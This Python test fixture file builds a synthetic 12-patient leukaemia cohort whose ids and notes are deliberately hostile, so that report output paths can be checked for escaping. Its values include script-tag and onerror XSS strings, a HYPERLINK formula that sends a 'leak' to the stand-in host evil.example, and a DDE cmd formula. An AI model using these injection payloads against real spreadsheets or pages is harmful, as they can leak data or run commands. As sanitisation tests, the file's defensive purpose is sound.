"""Shared fixtures of the report tests: a 12-patient cohort whose ids and free text are hostile.

The survival numbers come from the real ``kaplan_meier``; the ids and labels carry ``<script>``, quotes and
spreadsheet formulas so every output path is exercised with text that must not execute or evaluate.
"""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

SCRIPT_ID = "<script>alert('id')</script>"
FORMULA_ID = '=HYPERLINK("http://evil.example/?leak","click")'
QUOTE_ID = "O'Brien \"Pat\" & co"
SCRIPT_GROUP = "<script>alert('group')</script>"


def hostile_cohort() -> pd.DataFrame:
    ids = [SCRIPT_ID, FORMULA_ID, QUOTE_ID, "@SUM(A1:A2)", "+1+1", "-2+3", "P07", "P08", "P09", "P10", "P11", "P12"]
    return pd.DataFrame(
        {
            "patient_id": ids,
            "infusion_date": pd.to_datetime(["2023-01-05"] * 12) + pd.to_timedelta(np.arange(12) * 17, unit="D"),
            "age_years": [12, 25, 34, 41, 19, 56, 63, 8, 29, 47, 38, 22],
            "sex": ["F", "M", "M", "F", "M", "M", "F", "M", "F", "M", "M", "F"],
            "diagnosis": ["T-ALL"] * 8 + ["T-LBL"] * 4,
            "hsct": [SCRIPT_GROUP, "none"] * 6,
            "day28_response": ["CR", "CRi", "NR", "CR", "PR", "NR", "CR", "CRi", "NR", "CR", None, "CR"],
            "os_days": [14, 30, 45, 81, 100, 134, 134, 200, 300, 400, 600, 925],
            "os_event": [1, 1, 1, 1, 0, 1, 1, 0, 1, 0, 0, 0],
            "last_followup_day": [14, 30, 45, 81, 100, 134, 134, 200, 300, 400, 600, 925],
            "death_day": [14, 30, 45, 81, np.nan, 134, 134, np.nan, 300, np.nan, np.nan, np.nan],
            "progression_day": [np.nan, 20, 40, 60, np.nan, 90, 120, np.nan, 250, np.nan, np.nan, np.nan],
            "hsct_day": [np.nan, np.nan, np.nan, 70, np.nan, np.nan, 75, 60, np.nan, 80, np.nan, 55],
            "crs_max_grade": [1, 2, 3, 1, 2, 3, 1, 1, 3, 2, 3, 1],
            "icans_max_grade": [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, np.nan],
            "note": ["=cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "", "", "", "", "", "", "", "", "", ""],
        }
    )


@pytest.fixture
def cohort() -> pd.DataFrame:
    return hostile_cohort()
